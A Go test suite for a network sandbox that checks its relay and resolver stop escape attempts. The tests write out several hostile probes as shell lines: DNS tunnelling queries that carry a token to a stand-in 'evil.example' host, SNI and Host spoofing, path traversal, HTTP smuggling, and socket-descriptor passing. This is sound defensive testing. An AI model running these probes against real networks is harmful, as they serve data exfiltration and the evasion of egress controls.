package sandbox

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// pathway is a vacuum into which capabilities let things, with a relay and a
// resolver as the command makes them.
type pathway struct {
	*World
	relay  *Relay
	record *Record

	mu    sync.Mutex
	stray []string // what the relay dialled that no server stands for
}

// letIn brings one up. The servers stand for what the relay would dial.
func letIn(t *testing.T, servers map[string]string, capabilities ...string) *pathway {
	t.Helper()
	authority, err := NewAuthority(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	p := &pathway{record: NewRecord(nil)}
	names := NewNames()
	o := RelayOptions{Names: names, Record: p.record, Authority: authority, Original: OriginalDestination}
	o.Dial = func(ctx context.Context, network, address string) (net.Conn, error) {
		to, ok := servers[address]
		if !ok {
			p.mu.Lock()
			defer p.mu.Unlock()
			p.stray = append(p.stray, network+" "+address)
			return nil, fmt.Errorf("dialling %s: %w", address, unix.EHOSTUNREACH)
		}
		if strings.HasPrefix(to, "/") {
			network = "unix"
		}
		var d net.Dialer
		return d.DialContext(ctx, network, to)
	}
	for _, c := range capabilities {
		o.Capabilities = append(o.Capabilities, mustCapability(t, c))
	}
	if p.relay, err = NewRelay(o); err != nil {
		t.Fatal(err)
	}
	p.World = up(t, Options{Record: p.record, Files: map[string][]byte{"/etc/vacuum.pem": authority.PEM()}})
	listen := func(network, address string) net.Listener {
		l, err := p.Listen(t.Context(), network, address)
		if err != nil {
			t.Fatal(err)
		}
		return l
	}
	v4 := listen("tcp4", "127.0.0.1:0")
	port := uint16(v4.Addr().(*net.TCPAddr).Port)
	for _, l := range []net.Listener{v4, listen("tcp6", fmt.Sprintf("[::1]:%d", port))} {
		background(t, func(ctx context.Context) error { return p.relay.ServeTCP(ctx, l) })
	}
	const at = "127.0.0.53:53"
	resolver := NewResolver(ResolverOptions{Capabilities: o.Capabilities, Names: names, Record: p.record, Address: at})
	dns, err := p.ListenPacket(t.Context(), "udp4", at)
	if err != nil {
		t.Fatal(err)
	}
	background(t, func(ctx context.Context) error { return resolver.ServeUDP(ctx, dns) })
	stream := listen("tcp4", at)
	background(t, func(ctx context.Context) error { return resolver.ServeTCP(ctx, stream) })
	for _, c := range o.Capabilities {
		if c.Kind == KindUnix {
			l := listen("unix", c.Path)
			background(t, func(ctx context.Context) error { return p.relay.ServeUnix(ctx, l, c.Path) })
		}
	}
	rules, err := p.relay.Rules(port)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.SetRules(t.Context(), rules); err != nil {
		t.Fatal(err)
	}
	return p
}

// end closes the vacuum and returns its record, which must be complete.
func (p *pathway) end(t *testing.T) []Attempt {
	t.Helper()
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if err := p.record.Complete(); err != nil {
		t.Errorf("Complete() = %v; want nil", err)
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if len(p.stray) > 0 {
		t.Errorf("the relay dialled %q; want nothing that is not allowed", p.stray)
	}
	return p.record.Attempts()
}

func run(line string, o *outside) string {
	cmd := exec.Command("sh", "-c", line)
	cmd.Env = append(os.Environ(), o.env...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		out = fmt.Appendf(out, "(%v)", err)
	}
	return string(out)
}

// A resolver that answers an allowed name is no way out: not by names below it,
// not by other types, not by another server.
func (s suite) tunnels(t *testing.T) {
	control, o := s.listen(t, "tunncontrol"), s.listen(t, "tunnel")
	const dig = "dig -r +tries=1 +time=1 +short "
	if run(dig+"@127.0.0.1 -p $UDP $TOKEN.evil.example", control); !control.reached("udp") {
		t.Errorf("outside of a vacuum a question reached %v; want udp, or the test proves nothing", control.contacts())
	}
	p := letIn(t, nil, "dns:store.example:443,name=store")
	var all sync.WaitGroup
	for _, c := range []struct{ line, want string }{
		{dig + "store.example", "198.18.0.1"},
		{dig + "$TOKEN.store.example", "no servers could be reached"},
		{dig + "TXT $TOKEN.payload.in.labels.store.example", "no servers could be reached"},
		{dig + "+tcp NULL $TOKEN.store.example", "no servers could be reached"},
		{dig + "TXT store.example", ""},
		{dig + "-t TYPE65399 store.example", ""},
		{dig + "CH TXT $TOKEN.bind", "no servers could be reached"},
		{dig + "+opcode=notify $TOKEN.store.example", ""},
		{dig + "@127.0.0.1 -p $UDP $TOKEN.store.example", "no servers could be reached"},
		{dig + "@8.8.8.8 $TOKEN.store.example", "no servers could be reached"},
		{dig + "+tcp @10.0.0.1 $TOKEN.store.example", "no servers could be reached"},
		{dig + "+ednsopt=65001:" + strings.Repeat("ab", 60) + " store.example", "198.18.0.1"},
		{"curl -sm0.6 https://$TOKEN.store.example/ || echo $?", "28"},
		{"curl -sm0.6 --resolve $TOKEN.example:443:198.18.0.7 https://$TOKEN.example/ || echo $?", "28"},
		{"timeout 0.6 getent hosts $TOKEN.store.example || echo $?", "124"},
		{"python3 -c 'import socket\nfor i in range(50):\n s=socket.socket(2,2); s.sendto(b\"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x3f\"+b\"x\"*63+b\"\\5store\\7example\\0\\0\\x10\\0\\1\",(\"127.0.0.53\",53))\nprint(\"sent\")'", "sent"},
	} {
		all.Go(func() {
			if got := s.attempt(t, p.World, c.line, o); !strings.Contains(got, c.want) || (c.want == "" && got != "") {
				t.Errorf("%s: it says %q; want %q", c.line, got, c.want)
			}
		})
	}
	all.Wait()
	recorded := p.end(t)
	if got := o.contacts(); len(got) > 0 {
		t.Errorf("questions reached %v of the host; want nothing", got)
	}
	count := 0
	for _, a := range recorded {
		if a.Proto != "dns" {
			continue
		}
		if strings.HasPrefix(a.Destination, "xxx") {
			count += a.Count
		}
		name, _, _ := strings.Cut(a.Destination, " ")
		if want := map[bool]Verdict{true: Allowed, false: Blocked}[name == "store.example"]; a.Verdict != want || a.Executable == "" {
			t.Errorf("recorded %+v; want %s, with the program that asked", a, want)
		}
	}
	if count != 50 {
		t.Errorf("%d of 50 questions with a payload are recorded", count)
	}
	for _, want := range []string{"tunnel.store.example A", "tunnel.payload.in.labels.store.example TXT", "tunnel.store.example TYPE10", "tunnel.bind TXT"} {
		found := false
		for _, a := range recorded {
			found = found || (a.Proto == "dns" && a.Destination == want && a.Verdict == Blocked)
		}
		if !found {
			t.Errorf("no blocked question %q in the record", want)
		}
	}
}

// secureServer is a TLS server that remembers the names it was asked by and the
// requests that came.
func secureServer(t *testing.T) (addr string, asked, requests func() []string) {
	t.Helper()
	a, err := NewAuthority(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := a.leaf("store.example")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var names, got []string
	conf := &tls.Config{Certificates: []tls.Certificate{*leaf}, GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		mu.Lock()
		defer mu.Unlock()
		names = append(names, h.ServerName)
		return nil, nil
	}}
	addr = tcpServer(t, func(c *net.TCPConn) {
		s := tls.Server(c, conf)
		b := make([]byte, 4096)
		for {
			n, err := s.Read(b)
			if err != nil {
				return
			}
			mu.Lock()
			got = append(got, string(b[:n]))
			mu.Unlock()
			_, _ = s.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
		}
	})
	copyOf := func(l *[]string) func() []string {
		return func() []string {
			mu.Lock()
			defer mu.Unlock()
			return append([]string(nil), *l...)
		}
	}
	return addr, copyOf(&names), copyOf(&got)
}

// A server name that is not the capability's does not pass, whatever address or
// Host header goes with it.
func (s suite) liesOfNames(t *testing.T) {
	o := s.listen(t, "sni")
	server, asked, requests := secureServer(t)
	client := func(at, name string) string {
		return "printf 'DELETE /v2/$TOKEN HTTP/1.1\\r\\nHost: hidden.example\\r\\n\\r\\n' | timeout 2 openssl s_client -quiet -connect " + at + " " + name + " 2>&1"
	}
	if run(client(server, "-servername hidden.example"), o); len(asked()) == 0 || asked()[0] != "hidden.example" {
		t.Errorf("outside of a vacuum the server was asked by %q; want hidden.example, or the test proves nothing", asked())
	}
	before, sent := len(asked()), len(requests())
	p := letIn(t, map[string]string{"store.example:443": server}, "http:https://store.example;GET;/v2/*,name=store")
	for _, c := range []struct{ line, want string }{
		{client("store.example:443", "-servername hidden.example"), "alert"},
		{client("198.18.0.1:443", "-servername hidden.example"), "alert"},
		{client("198.18.0.1:443", "-noservername"), "alert"},
		{client("198.18.0.1:443", "-servername store.example.hidden.example"), "alert"},
		{client("198.18.0.1:443", "-tls1_2 -servername hidden.example"), "alert"},
		{client("[fd62:6c61:636b:35::1]:443", "-servername hidden.example"), "alert"},
		{"curl -sm2 --cacert /etc/vacuum.pem --connect-to hidden.example:443:store.example:443 https://hidden.example/$TOKEN || echo $?", "35"},
		{"curl -sm2 --cacert /etc/vacuum.pem -H 'Host: hidden.example' https://store.example/v2/$TOKEN", "does not let this pass"},
		{"curl -sm2 --cacert /etc/vacuum.pem -X DELETE https://store.example/v2/$TOKEN", "does not let this pass"},
		{"curl -sm2 --cacert /etc/vacuum.pem --path-as-is https://store.example/v2/../secret/$TOKEN", "does not let this pass"},
	} {
		if got := s.attempt(t, p.World, c.line, o); !strings.Contains(got, c.want) {
			t.Errorf("%s: it says %q; want %q", c.line, got, c.want)
		}
	}
	if got := requests()[sent:]; len(got) > 0 {
		t.Errorf("the server got %q; want nothing", got)
	}
	if l := p.relay.NotEnforced(); len(l) > 0 {
		t.Errorf("NotEnforced() = %q; want nothing", l)
	}
	// A client that refuses the vacuum's certificate gets through by the server's
	// name: then methods are not seen, and the run has no verdict.
	for range 2 {
		s.attempt(t, p.World, client("store.example:443", "-servername store.example -verify_return_error"), o)
	}
	if l := p.relay.NotEnforced(); len(requests()) > sent && (len(l) != 1 || l[0] != "store") {
		t.Errorf("NotEnforced() = %q after %q passed unseen; want [store]", l, requests()[sent:])
	}
	for _, name := range asked()[before:] {
		if name != "store.example" {
			t.Errorf("the server was asked by %q; want nothing but store.example", name)
		}
	}
	for _, a := range p.end(t) {
		if a.Proto == "http" && a.Verdict == Allowed && a.Outcome != NoMethod {
			t.Errorf("recorded %+v; want no request allowed", a)
		}
	}
}

// What two servers could take apart differently does not bring a second request
// past a pathway that only reads.
func (s suite) smuggling(t *testing.T) {
	control, o := s.listen(t, "smugcontrol"), s.listen(t, "smuggle")
	dir := t.TempDir()
	block := fmt.Sprintf("location /v2/ { access_log %[1]s/read; return 200 read; } location / { access_log %[1]s/other; return 200 other; }", dir)
	server := nginxAt(t, "", block)
	host, port, _ := net.SplitHostPort(server)
	const script = "python3 $PROGRAMS/smuggle.py "
	run(script+host+" "+port+" store.example $TOKEN", control)
	arrived := func(token string) (bad []string) {
		for _, f := range []string{"read", "other"} {
			b, err := os.ReadFile(filepath.Join(dir, f))
			if err != nil {
				t.Fatal(err)
			}
			for l := range strings.Lines(string(b)) {
				_, request, _ := strings.Cut(l, `"`)
				if strings.Contains(l, token) && (f == "other" || !strings.HasPrefix(request, "GET /v2/")) {
					bad = append(bad, f+": "+l)
				}
			}
		}
		return bad
	}
	if got := arrived(control.token); len(got) < 15 {
		t.Errorf("outside of a vacuum %d requests arrived that should not; want at least 15, or the test proves nothing:\n%s", len(got), strings.Join(got, ""))
	}
	p := letIn(t, map[string]string{"store.example:80": server}, "http:http://store.example;GET;/v2/*,name=store")
	out := s.attempt(t, p.World, script+"store.example 80 store.example $TOKEN", o)
	if !strings.Contains(out, "plain: 200") || strings.Contains(out, "other") {
		t.Errorf("it says %s; want the plain request to be answered and no other place to answer", out)
	}
	if got := arrived(o.token); len(got) > 0 {
		t.Errorf("requests that should not have passed:\n%s", strings.Join(got, ""))
	}
	denied := 0
	for _, a := range p.end(t) {
		if a.Proto == "http" && a.Verdict == Blocked {
			denied += a.Count
		}
	}
	if denied < 20 {
		t.Errorf("%d requests are recorded as denied; want at least 20. It says %s", denied, out)
	}
}

// A descriptor that a server of the host sends along would be a connection of
// the host. It does not pass the relay.
func (s suite) descriptorsSent(t *testing.T) {
	control, o := s.listen(t, "rightcontrol"), s.listen(t, "rights")
	path := filepath.Join(s.dir, "rights.sock")
	for _, c := range []*outside{control, o} {
		_ = os.Remove(path)
		l, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(path, 0o777); err != nil {
			t.Fatal(err)
		}
		go func() {
			for {
				client, err := l.AcceptUnix()
				if err != nil {
					return
				}
				give(client, tcpPort(c))
			}
		}()
		const script = "python3 $PROGRAMS/rights.py /run/rights.sock $TOKEN"
		if c == control {
			got := run(strings.ReplaceAll(script, "/run/rights.sock", path), c)
			if !strings.Contains(got, "1 descriptors") || !c.reached("tcp") {
				t.Errorf("outside of a vacuum it says %q and reached %v; want a descriptor, and tcp by it", got, c.contacts())
			}
		} else {
			p := letIn(t, map[string]string{"/run/rights.sock": path}, "unix:/run/rights.sock")
			if got := s.attempt(t, p.World, script, c); got != "0 descriptors" {
				t.Errorf("it says %q; want 0 descriptors", got)
			}
			found := false
			for _, a := range p.end(t) {
				found = found || (a.Proto == protoUnix && a.Verdict == Allowed && a.Destination == "/run/rights.sock" && a.Executable != "")
			}
			if got := c.contacts(); len(got) > 0 || !found {
				t.Errorf("it reached %v, in the record: %v; want the allowed socket alone, recorded", got, found)
			}
		}
		_ = l.Close()
	}
}

// give sends an address and a socket of the host to reach it by.
func give(c *net.UnixConn, port string) {
	defer c.Close()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	_, _, _ = c.WriteMsgUnix([]byte("127.0.0.1:"+port), unix.UnixRights(fd), nil)
}

// What is allowed at every address is not allowed at the host's own loopback,
// and does not take the place of what programs inside serve on theirs.
func (s suite) wide(t *testing.T) {
	control, o := s.listen(t, "widecontrol"), s.listen(t, "wide")
	if run("attempt tcp 127.0.0.1 $TCP $TOKEN", control); !control.reached("tcp") {
		t.Error("outside of a vacuum it did not reach tcp: the test proves nothing")
	}
	servers := map[string]string{"10.0.0.1:443": "127.0.0.1:" + tcpPort(o)}
	p := letIn(t, servers, "tcp:0.0.0.0/0:*", "tcp:[::/0]:*", "udp:0.0.0.0/0:*")
	const server = `python3 -c 'import http.client, http.server, threading
s = http.server.HTTPServer(("127.0.0.1", 8080), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=s.serve_forever, daemon=True).start()
c = http.client.HTTPConnection("127.0.0.1", 8080, timeout=3); c.request("HEAD", "/"); print(c.getresponse().status)' 2>/dev/null`
	lines := map[string]string{"attempt udp 127.0.0.1 $UDP $TOKEN": "silent", server: "200"}
	for _, a := range []string{"127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "192.0.2.1", "fd62:6c61:636b::1"} {
		lines["attempt tcp "+a+" $TCP $TOKEN"] = "silent"
	}
	var all sync.WaitGroup
	for line, want := range lines {
		all.Go(func() {
			if out := s.attempt(t, p.World, line, o); out != want {
				t.Errorf("%s: it says %q; want %q", line, out, want)
			}
		})
	}
	all.Wait()
	if got := o.contacts(); len(got) > 0 {
		t.Errorf("it reached %v of the host; want nothing", got)
	}
	if out := s.attempt(t, p.World, "attempt tcp 10.0.0.1 443 $TOKEN", o); out != "answer reached" || o.contacts()["tcp"] != 1 {
		t.Errorf("elsewhere: it says %q; want an answer", out)
	}
	p.end(t)
}

func tcpPort(o *outside) string { return strings.TrimPrefix(o.env[1], "TCP=") }

// Files that a server keeps, or a daemon of the host, are on the network: they
// are not there.
func (s suite) servedFiles(t *testing.T) {
	if !s.root {
		return // who mounts one needs a privilege
	}
	dir := filepath.Join(s.dir, "served")
	for _, d := range []string{"lower", "upper", "work", "at"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(dir+"/lower/file", []byte("of the daemon"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("fuse-overlayfs", "-o", fmt.Sprintf("lowerdir=%[1]s/lower,upperdir=%[1]s/upper,workdir=%[1]s/work", dir), dir+"/at").CombinedOutput()
	if err != nil {
		t.Fatalf("fuse-overlayfs: %v\n%s", err, out)
	}
	defer func() {
		if err := unix.Unmount(dir+"/at", 0); err != nil {
			t.Errorf("unmounting: %v", err)
		}
	}()
	if b, err := os.ReadFile(dir + "/at/file"); err != nil || string(b) != "of the daemon" {
		t.Errorf("outside of a vacuum the file holds %q, %v; want what the daemon says, or the test proves nothing", b, err)
	}
	o := s.listen(t, "served")
	w := up(t, Options{})
	if got := s.attempt(t, w, "ls "+dir+"/at; cat "+dir+"/lower/file; stat -fc %T "+dir+"/at", o); strings.Contains(got, "fuse") || !strings.HasPrefix(got, "of the daemon") {
		t.Errorf("it says %q; want an empty directory", got)
	}
	if !strings.Contains(strings.Join(w.Warnings(), " "), dir+"/at is empty") {
		t.Errorf("Warnings() = %q; want one about %s", w.Warnings(), dir+"/at")
	}
}
